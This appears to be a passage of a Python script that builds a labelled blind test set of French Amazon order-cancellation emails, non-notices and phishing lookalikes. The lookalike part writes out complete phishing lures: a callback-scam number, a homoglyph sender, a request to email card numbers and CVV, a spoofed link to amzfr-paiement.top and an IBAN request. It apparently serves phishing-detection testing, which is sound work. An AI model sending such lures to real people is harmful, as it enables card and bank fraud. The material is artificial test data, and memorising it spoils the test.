#!/usr/bin/env python3
"""Regenerate blind test batch t2 (fr / es / pt): notices, non-notices, lookalikes.
Run: python3 make.py   -> writes mail/t2NNN.eml and labels.json"""
import json, os, random, html as _h
from email.message import EmailMessage
from email.policy import default as _pol
from email.utils import format_datetime, make_msgid
from email.headerregistry import Address
import datetime

random.seed(20240202)
OUT = os.path.dirname(os.path.abspath(__file__))
POL = _pol.clone(max_line_length=78)

def order_no():
    return "%03d-%07d-%07d" % (random.choice([111, 112, 113, 114, 171, 202, 203, 302, 305, 402, 403, 405, 407, 408, 701, 702]),
                               random.randint(0, 9999999), random.randint(0, 9999999))

def rdate():
    base = datetime.datetime(2024, 3, 1, tzinfo=datetime.timezone.utc)
    d = base + datetime.timedelta(days=random.randint(0, 560), seconds=random.randint(0, 86399))
    return format_datetime(d)

def amz_msgid():
    return "<%016x-%08x-%04x-%04x-%04x-%012x-000000@email.amazonses.com>" % (
        random.getrandbits(64), random.getrandbits(32), random.getrandbits(16), random.getrandbits(16),
        random.getrandbits(16), random.getrandbits(48))

def auth_pass(dom):
    return ("mx.google.com;\r\n       dkim=pass header.i=@%s header.s=%s header.b=%s;\r\n"
            "       dkim=pass header.i=@amazonses.com header.s=224i4yxa5dv7c2xz3womw6peuasteono header.b=Kq1vXz0P;\r\n"
            "       spf=pass (google.com: domain of 0102%012x@bounces.%s designates 54.240.%d.%d as permitted sender) smtp.mailfrom=bounces.%s;\r\n"
            "       dmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=%s"
            % (dom, random.choice(["rjs7yxh6d2czhmvdtwapclahb4wzsgr6", "htgm45lfykqtjjvbr6zcbxwp3pm54hx5", "yg4mwqurec7fkhzutopddd3ytuaqrvuz"]),
               "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop0123456789") for _ in range(8)),
               random.getrandbits(48), dom, random.randint(1, 60), random.randint(1, 250), dom, dom)).replace("\r\n", "\n")

def received(helo, ip, by="mx.google.com"):
    return "from %s (%s [%s])\n        by %s with ESMTPS id %s\n        for <%s>; %s" % (
        helo, helo, ip, by, "".join(random.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12)),
        "{TO}", "{DATE}")

# ---------------------------------------------------------------- Amazon-like HTML template
STYLE = """<style type="text/css">
body { margin:0; font:13px/18px Arial, sans-serif; }
a { text-decoration:none; color:#006699; font:13px/18px Arial, sans-serif; }
a img { border:0; }
h2 { font-size:20px; line-height:24px; margin:0; padding:0; font-weight:normal; color:#000 !important; }
h3 { font-size:18px; color:#cc6600; margin:15px 0 0 0; font-weight:normal; }
p { margin:4px 0 0 0; font:13px/18px Arial, sans-serif; }
table { border-collapse:collapse; }
td { vertical-align: top; font-size: 13px; line-height: 18px; font-family: Arial, sans-serif; }
#container { width:655px; color:#333; margin:0 auto; }
#container .frame { padding:0 20px 20px 20px; }
#header .logo { width:115px; padding:18px 0 0 0; }
#header .navigation { text-align:right; padding:5px 0; border-bottom:1px solid #ccc; white-space:nowrap; }
#header .title { text-align:right; padding:7px 0 5px 0; }
#criticalInfo { border-top:3px solid #2d3741; width:640px; }
#itemDetails td { padding:10px 0 10px 0; border-bottom:1px solid #eaeaea; }
#legalCopy p { font-size:11px; line-height:15px; color:#666; }
.buttonComponent { border-collapse: separate; border-radius:3px; border:1px solid #CBA957; background-color:#ffa723; min-width:222px; }
</style>"""

def track(dom, url, ref):
    # Amazon style redirect wrapper
    from urllib.parse import quote
    return "https://www.%s/gp/r.html?C=%s&K=%s&M=urn:rtn:msg:%d&R=%s&T=C&U=%s&H=%s&ref_=%s" % (
        dom, "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(13)),
        "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(13)),
        random.randint(10**17, 10**18), "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(13)),
        quote(url, safe=""), "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(28)), ref)

def amz_html(dom, nav, title, order, order_label, paras, items=None, items_head=None, totals=None,
             button=None, footer=(), link=None, hidden_pre=""):
    """nav = (label_orders, label_account, label_site); items = [(title, seller, qty, price)]
    link: function(url, ref) -> href (default amazon tracking redirect); lets lookalikes swap hrefs."""
    link = link or (lambda u, r: track(dom, u, r))
    e = _h.escape
    o = []
    o.append('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">')
    o.append('<html xmlns="https://www.w3.org/1999/xhtml">\n <head>\n  <meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />\n  ' + STYLE + '\n </head>')
    o.append(' <body>')
    if hidden_pre:
        o.append('  <div style="display:none;max-height:0;overflow:hidden">%s</div>' % e(hidden_pre))
    o.append('  <table id="container"><tr><td class="frame">')
    o.append('   <table id="header"><tr><td class="logo"><a href="%s"><img alt="%s" src="https://images-eu.ssl-images-amazon.com/images/G/08/x-locale/common/transactional/v2/amazon_logo._CB485934318_.png" /></a></td>'
             % (link("https://www.%s/" % dom, "TE_tex_g"), e(nav[2])))
    o.append('    <td><table><tr><td class="navigation"><a href="%s">%s</a> <span>|</span> <a href="%s">%s</a> <span>|</span> <a class="last" href="%s">%s</a></td></tr>'
             % (link("https://www.%s/gp/css/order-history" % dom, "TE_simp_on"), e(nav[0]),
                link("https://www.%s/gp/css/homepage.html" % dom, "TE_simp_ya"), e(nav[1]),
                link("https://www.%s/" % dom, "TE_simp_home"), e(nav[2])))
    o.append('     <tr><td class="title"><h2>%s</h2>%s</td></tr></table></td></tr></table>'
             % (e(title), ('<p>%s <a href="%s">%s</a></p>' % (e(order_label), link("https://www.%s/gp/your-account/order-details?orderID=%s" % (dom, order), "TE_simp_od"), e(order))) if order else ""))
    o.append('   <table id="summary"><tr><td>')
    for p in paras:
        o.append('    <p>%s</p>' % p)  # paras may contain markup already
    if button:
        o.append('    <table class="buttonComponent" cellpadding="0" cellspacing="0"><tr><td style="padding:12px 20px"><a class="buttonComponentLink" href="%s">%s</a></td></tr></table>'
                 % (button[1], e(button[0])))
    o.append('   </td></tr></table>')
    if items:
        o.append('   <table id="criticalInfo"><tr><td><h3>%s</h3></td></tr></table>' % e(items_head or ""))
        o.append('   <table id="itemDetails">')
        for (t, seller, q, pr) in items:
            o.append('    <tr><td style="width:110px"><img src="https://m.media-amazon.com/images/I/%s._SCLZZZZZZZ_SX110_.jpg" width="90" /></td><td><a href="%s">%s</a><br /><span style="color:#666">%s</span><br />%s</td><td style="text-align:right;white-space:nowrap"><b>%s</b></td></tr>'
                     % ("".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(11)),
                        link("https://www.%s/dp/B0%08d" % (dom, random.randint(0, 10**8 - 1)), "TE_simp_dp"), e(t), e(seller), e(q), e(pr)))
        o.append('   </table>')
    if totals:
        o.append('   <table id="costBreakdown">')
        for (k, v) in totals:
            o.append('    <tr><td style="text-align:right;width:75%%">%s</td><td style="text-align:right">%s</td></tr>' % (e(k), e(v)))
        o.append('   </table>')
    o.append('   <table id="legalCopy"><tr><td>')
    for f in footer:
        o.append('    <p>%s</p>' % f)
    o.append('   </td></tr></table>')
    o.append('  </td></tr></table>\n  <img width="1" height="1" src="https://www.%s/gp/r.html?C=%s&amp;T=E&amp;ref_=pe_open" />\n </body>\n</html>'
             % (dom, "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(13))))
    return "\n".join(o).replace("&ref_=", "&amp;ref_=").replace("&K=", "&amp;K=").replace("&M=", "&amp;M=").replace("&R=", "&amp;R=").replace("&T=C", "&amp;T=C").replace("&U=", "&amp;U=").replace("&H=", "&amp;H=")

def simple_html(body, lang="fr", font="Arial, Helvetica, sans-serif"):
    return '<html lang="%s"><head><meta charset="utf-8"></head><body style="font-family:%s;font-size:14px;color:#222">\n%s\n</body></html>' % (lang, font, body)

def a(href, text):
    return '<a href="%s">%s</a>' % (_h.escape(href), _h.escape(text))

# ---------------------------------------------------------------- message builder
def build(m):
    msg = EmailMessage(policy=POL)
    date = m.get("date") or rdate()
    to = m["to"]
    for hdr in m.get("received", []):
        msg["Received"] = " ".join(hdr.replace("{TO}", to[1]).replace("{DATE}", date).split())
    if m.get("auth"):
        msg["Authentication-Results"] = " ".join(m["auth"].split())
    if m.get("return_path"):
        msg["Return-Path"] = "<%s>" % m["return_path"]
    fr = m["from"]
    msg["From"] = Address(fr[0], addr_spec=fr[1]) if fr[0] else fr[1]
    if m.get("reply_to"):
        msg["Reply-To"] = m["reply_to"]
    msg["To"] = Address(to[0], addr_spec=to[1]) if to[0] else to[1]
    msg["Subject"] = m["subject"]
    msg["Date"] = date
    msg["Message-ID"] = m.get("msgid") or make_msgid(domain=fr[1].split("@")[1].strip(">"))
    for k, v in m.get("extra", []):
        msg[k] = v
    cs = m.get("charset", "utf-8")
    cte = m.get("cte", "quoted-printable")
    text, html = m.get("text"), m.get("html")
    if text is not None and html is not None:
        msg.set_content(text, charset=cs, cte=m.get("cte_text", cte))
        msg.add_alternative(html, subtype="html", charset=cs, cte=cte)
    elif html is not None:
        msg.set_content(html, subtype="html", charset=cs, cte=cte)
    else:
        msg.set_content(text, charset=cs, cte=cte)
    for (fname, ctype, data) in m.get("attach", []):
        mt, st = ctype.split("/")
        if isinstance(data, str):
            data = data.encode("utf-8")
        msg.add_attachment(data, maintype=mt, subtype=st, filename=fname)
    b = msg.as_bytes(policy=POL)
    return b

MAILS = []
def add(**kw):
    MAILS.append(kw)

def amz_text(site, title, order_line, paras, items=None, items_head=None, totals=None, footer=()):
    o = [site + " " + title]
    if order_line:
        o.append(order_line)
    o.append("https://www.%s/ref=TE_tex_g" % site.lower())
    o.append("_" * 75)
    o.append("")
    for p in paras:
        o.append(p)
        o.append("")
    if items:
        o.append(items_head or "")
        o.append("")
        for (t, seller, q, pr) in items:
            o.append("  %s" % t)
            o.append("  %s" % seller)
            o.append("  %s   %s" % (q, pr))
            o.append("")
    if totals:
        for k, v in totals:
            o.append("%s %s" % (k, v))
        o.append("")
    o.append("=" * 75)
    o.append("")
    for f in footer:
        o.append(f)
        o.append("")
    return "\n".join(o)

# =============================================================== FRENCH
L_FR = ("Vos commandes", "Votre compte", "Amazon.fr")
def foot_fr(dom, legal):
    return [
        "Amazon ne vous demandera jamais de communiquer votre mot de passe, vos codes de vérification ou vos coordonnées bancaires par e-mail, SMS ou téléphone.",
        "Si le numéro de votre carte ou sa date d'expiration ont changé, mettez-les à jour dans Votre compte : https://www.%s/cpe/yourpayments/wallet" % dom,
        "Vous avez reçu un e-mail suspect prétendant venir d'Amazon ? Signalez-le à stop-spoofing@%s ou consultez notre page d'aide : https://www.%s/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF" % (dom, dom),
        "Pour toute question, rendez-vous sur l'aide : https://www.%s/gp/help/customer/display.html" % dom,
        "Cet e-mail a été envoyé depuis une adresse ne pouvant recevoir d'e-mails. Merci de ne pas répondre à ce message.",
        legal]
LEGAL_FR = "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg. Capital social : 125 000 EUR. RCS Luxembourg : B-101818. N° de TVA : LU 20260743."
LEGAL_BE = "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg. RCS Luxembourg B-101818. Succursale belge : Amazon EU SARL, Belgian Branch, BE 0746.473.532."
LEGAL_CA = "Amazon.com.ca ULC, 40 King Street West, 47e étage, Toronto (Ontario) M5H 3Y2, Canada."

def fr_notices():
    R = []
    # 1 inventory_shortage, amazon.fr, alt, auth
    o = order_no(); dom = "amazon.fr"
    items = [("Lego Technic 42154 Ford GT 2022", "Vendu par : Amazon EU S.à r.l.", "Quantité : 1", "89,99 €")]
    paras = ["Bonjour Camille,",
             "Nous sommes au regret de vous informer que l'article ci-dessous n'est plus disponible : notre fournisseur ne peut pas nous livrer le stock prévu et nous ne sommes pas en mesure de l'obtenir dans un délai raisonnable. Nous avons donc annulé votre commande n° %s." % o,
             "Aucun montant n'a été débité pour cet article. Si une autorisation apparaît sur votre relevé, elle disparaîtra automatiquement sous quelques jours.",
             "Nous vous prions de nous excuser pour la gêne occasionnée. Vous pouvez consulter les offres d'autres vendeurs sur la page du produit."]
    R.append(dict(kind="notice", lang="fr", cause="inventory_shortage", states_reason=True, marketplace=dom,
        note="article plus disponible, fournisseur; html alt qp",
        from_=("Amazon.fr", "order-update@amazon.fr"), to=("Camille Durand", "camille.durand@orange.fr"),
        subject="Votre commande Amazon.fr n° %s a été annulée" % o, auth=auth_pass(dom),
        text=amz_text("Amazon.fr", "Annulation de commande", "Commande n° %s" % o, paras, items, "Articles annulés", [("Montant remboursé :", "0,00 €")], foot_fr(dom, LEGAL_FR)),
        html=amz_html(dom, L_FR, "Annulation de commande", o, "Commande n°", [_h.escape(p) for p in paras], items, "Articles annulés", [("Montant débité :", "0,00 €")], footer=[_h.escape(x) for x in foot_fr(dom, LEGAL_FR)]),
        cte="quoted-printable"))
    # 2 payment_issue, amazon.fr, text-only iso-8859-15 8bit
    o = order_no()
    t = """Bonjour Julien Lefebvre,

Nous vous avions informé le 12 du mois que nous n'avions pas pu obtenir l'autorisation de paiement de votre carte Visa se terminant par 4417 pour la commande n° %s.

Le délai de révision du paiement étant écoulé sans mise à jour de votre part, nous avons annulé votre commande.

Articles annulés :
  1 x Tefal Ingenio Emotion L897S404 Batterie de cuisine 13 pièces    119,90 €
  1 x Brita Carafe filtrante Marella XL 3,5 L                           24,99 €

Aucun paiement n'a été encaissé. Si vous souhaitez toujours ces articles, vous pouvez passer une nouvelle commande et choisir un autre mode de paiement.

Pour vérifier ou modifier vos modes de paiement, rendez-vous dans Votre compte :
https://www.amazon.fr/cpe/yourpayments/wallet

Amazon ne vous demandera jamais votre mot de passe ou votre cryptogramme par e-mail. Si le numéro de votre carte a changé, mettez-le à jour dans Votre compte et non en réponse à un e-mail.
E-mail suspect ? https://www.amazon.fr/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF

Cordialement,
Le Service Client d'Amazon.fr

Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg
""" % o
    R.append(dict(kind="notice", lang="fr", cause="payment_issue", states_reason=True, marketplace="amazon.fr",
        note="révision de paiement non effectuée à temps; text iso-8859-15 8bit",
        from_=("Amazon.fr", "payments-messages@amazon.fr"), to=("Julien Lefebvre", "julien.lefebvre@free.fr"),
        subject="Votre commande Amazon.fr %s a été annulée" % o, text=t, charset="iso-8859-15", cte="8bit"))
    # 3 technical_issue, amazon.ca fr, html-only base64, auth
    o = order_no(); dom = "amazon.ca"
    items = [("Casque à réduction de bruit Sony WH-1000XM5, noir", "Vendu par : Amazon.com.ca ULC", "Quantité : 1", "52,99 $")]
    paras = ["Bonjour Geneviève,",
             "Une erreur de prix s'est produite sur la page de l'article ci-dessous : il a été affiché à un prix nettement inférieur à son prix réel en raison d'une erreur dans la fiche produit. Conformément à nos Conditions d'utilisation, nous avons annulé l'article de votre commande %s." % o,
             "Votre mode de paiement n'a pas été débité. Nous nous excusons de ce désagrément et vous remercions de votre compréhension."]
    R.append(dict(kind="notice", lang="fr", cause="technical_issue", states_reason=True, marketplace=dom,
        note="erreur de prix/fiche produit; amazon.ca en français; html-only base64",
        from_=("Amazon.ca", "order-update@amazon.ca"), to=("Geneviève Tremblay", "gtremblay@videotron.ca"),
        subject="Article annulé de votre commande Amazon.ca %s" % o, auth=auth_pass(dom),
        html=amz_html(dom, ("Vos commandes", "Votre compte", "Amazon.ca"), "Article annulé", o, "Commande n°", [_h.escape(p) for p in paras], items, "Article annulé",
                      [("Sous-total des articles annulés :", "52,99 $"), ("Montant facturé :", "0,00 $")], footer=[_h.escape(x) for x in foot_fr(dom, LEGAL_CA)]),
        cte="base64"))
    # 4 fraud_prevention, amazon.com.be, alt (text b64, html qp), no auth
    o = order_no(); dom = "amazon.com.be"
    paras = ["Bonjour Sophie Peeters,",
             "Nous avons détecté une activité inhabituelle sur votre compte Amazon.com.be. Par mesure de sécurité, nous avons temporairement bloqué votre compte et annulé votre commande n° %s, en attente d'une vérification." % o,
             "Pour rétablir l'accès à votre compte, connectez-vous sur Amazon.com.be depuis votre navigateur ou l'application (et non via un lien reçu par e-mail) : vous serez guidée pour confirmer votre identité.",
             "Toute commande en cours ou future restera en attente jusqu'à la fin de la vérification."]
    items = [("Apple AirPods Pro (2e génération) avec boîtier MagSafe USB-C", "Vendu par : Amazon EU S.à r.l.", "Quantité : 2", "558,00 €")]
    R.append(dict(kind="notice", lang="fr", cause="fraud_prevention", states_reason=True, marketplace=dom,
        note="activité inhabituelle, compte bloqué; alt b64/qp",
        from_=("Amazon.com.be", "cs-reply@amazon.com.be"), to=("Sophie Peeters", "sophie.peeters@skynet.be"),
        subject="Votre compte Amazon.com.be est en attente et votre commande %s a été annulée" % o,
        text=amz_text("Amazon.com.be", "Information sur votre commande", "Commande n° %s" % o, paras, items, "Articles annulés", None, foot_fr(dom, LEGAL_BE)),
        html=amz_html(dom, ("Vos commandes", "Votre compte", "Amazon.com.be"), "Information sur votre commande", o, "Commande n°", [_h.escape(p) for p in paras], items, "Articles annulés", None, footer=[_h.escape(x) for x in foot_fr(dom, LEGAL_BE)]),
        cte="quoted-printable", cte_text="base64"))
    # 5 customer_request, amazon.fr, text only qp, auth
    o = order_no(); dom = "amazon.fr"
    t = """Amazon.fr Annulation réussie
Commande n° %s

Bonjour Camille,

Comme vous l'avez demandé, nous avons annulé l'article suivant de votre commande n° %s :

  "Le Petit Prince" - Antoine de Saint-Exupéry (Poche)
  Quantité : 1
  Motif de l'annulation : annulée par le client

Les autres articles de la commande ne sont pas concernés et seront expédiés comme prévu.

Si vous avez payé par carte, le montant éventuellement débité vous sera remboursé sous 3 à 5 jours ouvrés. Vous pouvez suivre vos remboursements dans Vos commandes : https://www.amazon.fr/gp/css/order-history

Sécurité : Amazon ne vous demandera jamais votre mot de passe ni de confirmer vos coordonnées bancaires par e-mail. Si le numéro de votre carte a changé, mettez-le à jour dans Votre compte. Signalez les e-mails suspects : https://www.amazon.fr/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF

Nous espérons vous revoir bientôt !
Amazon.fr

Cet e-mail a été envoyé depuis une adresse ne pouvant recevoir d'e-mails. Merci de ne pas répondre à ce message.
""" % (o, o)
    R.append(dict(kind="notice", lang="fr", cause="customer_request", states_reason=True, marketplace=dom,
        note="annulation à la demande du client, partielle; text qp",
        from_=("Amazon.fr", "auto-confirm@amazon.fr"), to=("Camille Durand", "camille.durand@orange.fr"),
        subject='Annulation réussie de "Le Petit Prince" de votre commande Amazon.fr', auth=auth_pass(dom), text=t, cte="quoted-printable"))
    # 6 unknown (address undeliverable), amazon.ca fr, alt 8bit, no auth
    o = order_no(); dom = "amazon.ca"
    paras = ["Bonjour Marc-André,",
             "Le transporteur n'a pas pu livrer votre colis à l'adresse indiquée (adresse introuvable : numéro civique absent). Le colis nous a été retourné et votre commande n° %s a été annulée." % o,
             "Un remboursement de 74,97 $ sera émis sur votre mode de paiement d'origine d'ici 2 à 3 jours ouvrables. Pensez à vérifier votre carnet d'adresses dans Votre compte avant votre prochaine commande."]
    items = [("Keurig K-Mini cafetière à portion individuelle", "Vendu par : Amazon.com.ca ULC", "Quantité : 1", "74,97 $")]
    R.append(dict(kind="notice", lang="fr", cause="unknown", states_reason=True, marketplace=dom,
        note="adresse non livrable, colis retourné; alt 8bit",
        from_=("Amazon.ca", "order-update@amazon.ca"), to=("Marc-André Gagnon", "ma.gagnon@bell.net"),
        subject="Votre commande Amazon.ca n° %s a été annulée" % o,
        text=amz_text("Amazon.ca", "Commande annulée", "Commande n° %s" % o, paras, items, "Articles annulés", [("Remboursement :", "74,97 $")], foot_fr(dom, LEGAL_CA)),
        html=amz_html(dom, ("Vos commandes", "Votre compte", "Amazon.ca"), "Commande annulée", o, "Commande n°", [_h.escape(p) for p in paras], items, "Articles annulés", [("Remboursement :", "74,97 $")], footer=[_h.escape(x) for x in foot_fr(dom, LEGAL_CA)]),
        cte="8bit"))
    return R

def fr_others():
    R = []
    N = lambda **k: R.append(dict(kind="non_notice", lang="fr", cause=None, states_reason=False, marketplace=None, **k))
    L = lambda **k: R.append(dict(kind="lookalike", lang="fr", marketplace=None, **k))
    # --- non-notices
    N(note="Fnac annule sa propre commande, mentionne Amazon (alignement de prix); alt qp",
      from_=("Fnac.com", "commande@fnac.com"), to=("Julien Lefebvre", "julien.lefebvre@free.fr"),
      subject="Votre commande Fnac n° 7CQ4XKP2L9 a été annulée",
      text="Bonjour Julien,\n\nVotre commande n° 7CQ4XKP2L9 du 3 octobre a été annulée : l'article « Apple iPad 10,9\" 64 Go » n'est plus disponible chez notre vendeur partenaire.\nVous serez remboursé de 389,00 € sous 5 jours.\n\nBon à savoir : avec le service Prix Garanti Fnac, nous nous alignons sur les prix d'Amazon, Darty et Boulanger. \n\nL'équipe Fnac.com\n",
      html=simple_html("<p>Bonjour Julien,</p><p>Votre commande <b>n° 7CQ4XKP2L9</b> du 3 octobre a été annulée : l'article « Apple iPad 10,9\" 64 Go » n'est plus disponible chez notre vendeur partenaire.</p><p>Vous serez remboursé de 389,00 € sous 5 jours.</p><p style='font-size:12px;color:#666'>Bon à savoir : avec le service Prix Garanti Fnac, nous nous alignons sur les prix d'Amazon, Darty et Boulanger.</p><p>L'équipe Fnac.com</p>"),
      cte="quoted-printable")
    N(note="ami qui a annulé sa commande Amazon; text 8bit",
      from_=("Thomas Moreau", "thomas.moreau83@gmail.com"), to=("Camille Durand", "camille.durand@orange.fr"),
      subject="Re: cadeau pour Léa",
      text="Salut Camille,\n\nPetit changement : j'ai annulé ma commande Amazon pour le Lego, il n'arrivait que le 28, trop tard pour l'anniversaire. Amazon m'a confirmé l'annulation tout de suite.\nDu coup je passe à la Grande Récré samedi, tu veux venir ?\n\nBises,\nThomas\n\n> Le 14 nov. à 19:02, Camille Durand a écrit :\n> Tu as pu commander le cadeau ?\n",
      cte="8bit")
    N(note="newsletter conso sur le phishing, cite un faux objet d'annulation; html-only qp",
      from_=("Le Mag Conso", "newsletter@lemagconso.fr"), to=("", "camille.durand@orange.fr"),
      subject="Arnaque : le faux mail « Votre commande Amazon a été annulée » revient en force",
      html=simple_html("<h1>Attention au faux mail d'annulation Amazon</h1><p>Depuis quelques jours, de nombreux lecteurs nous signalent un e-mail intitulé <i>« Votre commande Amazon.fr n° 402-1187733 a été annulée – action requise »</i>. Le message invite à appeler un numéro surtaxé ou à « confirmer sa carte bancaire » pour obtenir un remboursement.</p><p>Nos conseils : ne cliquez pas, vérifiez directement vos commandes dans l'application, et signalez le message sur signal-spam.fr.</p><p><a href='https://www.lemagconso.fr/arnaques'>Lire l'article complet</a> · <a href='https://www.lemagconso.fr/desinscription'>Se désinscrire</a></p>"),
      cte="quoted-printable")
    o = order_no()
    N(note="créneau de livraison (gros électroménager) annulé, commande maintenue; alt qp",
      from_=("Amazon.fr", "livraison@amazon.fr"), to=("Camille Durand", "camille.durand@orange.fr"),
      subject="Votre créneau de livraison du jeudi 14 mars a été annulé",
      text="Bonjour Camille,\n\nLe transporteur a dû annuler le créneau de livraison du jeudi 14 mars (8h-13h) prévu pour votre lave-linge Bosch Série 6 (commande n° %s).\nVotre commande n'est pas annulée : choisissez un nouveau créneau dans Vos commandes > Gérer la livraison.\nhttps://www.amazon.fr/gp/css/order-history\n\nAmazon ne vous demandera jamais vos coordonnées bancaires par e-mail.\nAmazon.fr\n" % o,
      html=amz_html("amazon.fr", L_FR, "Créneau de livraison annulé", o, "Commande n°", ["Bonjour Camille,", "Le transporteur a dû annuler le créneau de livraison du jeudi 14 mars (8h-13h) prévu pour votre lave-linge Bosch Série 6.", "<b>Votre commande n'est pas annulée</b> : choisissez un nouveau créneau dans Vos commandes &gt; Gérer la livraison."], footer=[_h.escape(x) for x in foot_fr("amazon.fr", LEGAL_FR)]),
      cte="quoted-printable", auth=auth_pass("amazon.fr"))
    N(note="abonnement Prime annulé (amazon.ca fr); html-only base64",
      from_=("Amazon Prime", "prime@amazon.ca"), to=("Geneviève Tremblay", "gtremblay@videotron.ca"),
      subject="Confirmation : votre abonnement Amazon Prime a été annulé",
      html=amz_html("amazon.ca", ("Vos commandes", "Votre compte", "Amazon.ca"), "Abonnement Prime annulé", None, "", ["Bonjour Geneviève,", "Comme demandé, votre abonnement Amazon Prime a été annulé. Vous conserverez vos avantages jusqu'au 2 juin ; aucun renouvellement ne vous sera facturé.", "Vos commandes en cours ne sont pas affectées."], footer=[_h.escape(x) for x in foot_fr("amazon.ca", LEGAL_CA)]),
      cte="base64")
    o = order_no()
    N(note="rappel de paiement avant annulation (rien n'est encore annulé); text qp",
      from_=("Amazon.com.be", "payments-messages@amazon.com.be"), to=("Sophie Peeters", "sophie.peeters@skynet.be"),
      subject="Action requise : mettez à jour votre mode de paiement pour la commande %s" % o,
      text="Bonjour Sophie,\n\nLa banque émettrice de votre carte Mastercard se terminant par 0932 a refusé le paiement de votre commande n° %s.\n\nPour que nous puissions expédier votre commande, veuillez mettre à jour votre mode de paiement avant le 22 mai. Passé ce délai, votre commande sera annulée.\n\nConnectez-vous à Votre compte > Vos commandes > Modifier le mode de paiement : https://www.amazon.com.be/gp/css/order-history\n\nNous ne vous demanderons jamais vos coordonnées bancaires par e-mail.\n\nAmazon.com.be\n" % o,
      cte="quoted-printable")
    # --- lookalikes
    L(cause="fraud_prevention", states_reason=True, note="grossier, numéro de rappel, gmail, pas de n° de commande",
      from_=("Service Client Amazon", "amazon.serviceclient.fr2024@gmail.com"), to=("", "julien.lefebvre@free.fr"),
      subject="ANNULATION DE VOTRE COMMANDE AMAZON - activité suspecte !!",
      text="Cher client,\n\nVotre commande iPhone 15 Pro Max (1 479,00 EUR) a été ANNULÉE suite a une activité suspecte sur votre compte.\nPour obtenir votre remboursement ou si vous n'etes pas a l'origine de cet achat, APPELEZ IMMÉDIATEMENT notre service sécurité au :\n\n      +33 9 70 73 58 12  (7j/7)\n\nSans appel de votre part sous 24h le montant sera débité définitivement.\n\nService Client Amazon\n",
      cte="8bit", received=[received("mail-sor-f41.google.com", "209.85.220.41")])
    o = order_no()
    L(cause="fraud_prevention", states_reason=True, note="nom cyrillique, compte suspendu + commande annulée, code de réactivation, gabarit soigné",
      from_=("\u0410mazon.fr", "no-reply@secure-amzn-fr.com"), to=("Camille Durand", "camille.durand@orange.fr"),
      subject="Compte suspendu : votre commande %s a été annulée" % o,
      html=amz_html("amazon.fr", L_FR, "Compte suspendu", o, "Commande n°", ["Bonjour,", "Votre compte a été suspendu et votre commande a été annulée en raison d'une tentative de connexion inhabituelle.", "Pour réactiver votre compte et récupérer votre commande, utilisez le code suivant : <b style='font-size:20px'>884 213</b> sur la page de vérification."], button=("Réactiver mon compte", "https://secure-amzn-fr.com/reactivation?code=884213"),
                    footer=["Amazon ne vous demandera jamais votre mot de passe.", LEGAL_FR], link=lambda u, r: "https://secure-amzn-fr.com/r?u=" + r),
      cte="quoted-printable", received=[received("vps-3b1e.contaboserver.net", "185.220.101.47")])
    L(cause="payment_issue", states_reason=True, note="demande de répondre avec carte; outlook",
      from_=("Amazon Paiements", "amazon-paiements@outlook.fr"), to=("", "sophie.peeters@skynet.be"),
      subject="Commande annulée - paiement refusé", reply_to="amazon-paiements@outlook.fr",
      text="Bonjour,\n\nNous n'avons pas pu valider le paiement de votre dernière commande, elle a donc été annulée.\nPour réactiver votre commande, répondez simplement à cet e-mail en indiquant :\n- nom du titulaire de la carte\n- numéro de carte (16 chiffres)\n- date d'expiration\n- cryptogramme (3 chiffres au dos)\n\nNotre équipe traitera votre demande sous 2h.\n\nCordialement,\nService Paiements Amazon\n",
      cte="quoted-printable")
    o = order_no()
    L(cause="payment_issue", states_reason=True, note="texte de lien amazon.fr, href ailleurs; domaine amazon.fr.commande-annulee.info; dkim d'un autre domaine",
      from_=("Amazon.fr", "order-update@amazon.fr.commande-annulee.info"), to=("Julien Lefebvre", "julien.lefebvre@free.fr"),
      subject="Votre commande Amazon.fr n° %s a été annulée" % o,
      auth="mx.free.fr; dkim=pass header.d=commande-annulee.info; spf=pass smtp.mailfrom=commande-annulee.info; dmarc=none header.from=amazon.fr.commande-annulee.info",
      html=amz_html("amazon.fr", L_FR, "Commande annulée", o, "Commande n°", ["Bonjour Julien,", "Votre banque a refusé le paiement et votre commande a été annulée. Pour la rétablir, mettez à jour votre carte sur " + a("http://amzfr-paiement.top/wallet/login.php", "https://www.amazon.fr/cpe/yourpayments/wallet") + " avant ce soir minuit."],
                    [("Samsung Galaxy S24 Ultra 256 Go", "Vendu par : Amazon EU S.à r.l.", "Quantité : 1", "1 199,00 €")], "Articles annulés", footer=[_h.escape(x) for x in foot_fr("amazon.fr", LEGAL_FR)], link=lambda u, r: "http://amzfr-paiement.top/go?" + r),
      cte="base64")
    L(cause="inventory_shortage", states_reason=True, note="domaine amaz0n, n° de commande malformé, demande IBAN pour remboursement",
      from_=("Amazon Remboursements", "remboursement@amaz0n-service.com"), to=("", "ma.gagnon@bell.net"),
      subject="Remboursement en attente : commande #408-99812-331 annulée (rupture de stock)",
      html=simple_html("<p>Bonjour,</p><p>L'article de votre commande <b>#408-99812-331</b> est en rupture de stock et la commande a été annulée.</p><p>Pour recevoir votre remboursement de <b>249,99 $</b>, confirmez vos coordonnées bancaires (numéro de compte, transit, institution) via le formulaire sécurisé :</p><p><a href='http://amaz0n-service.com/remboursement'>Recevoir mon remboursement</a></p><p>Amazon Canada</p>"),
      cte="quoted-printable")
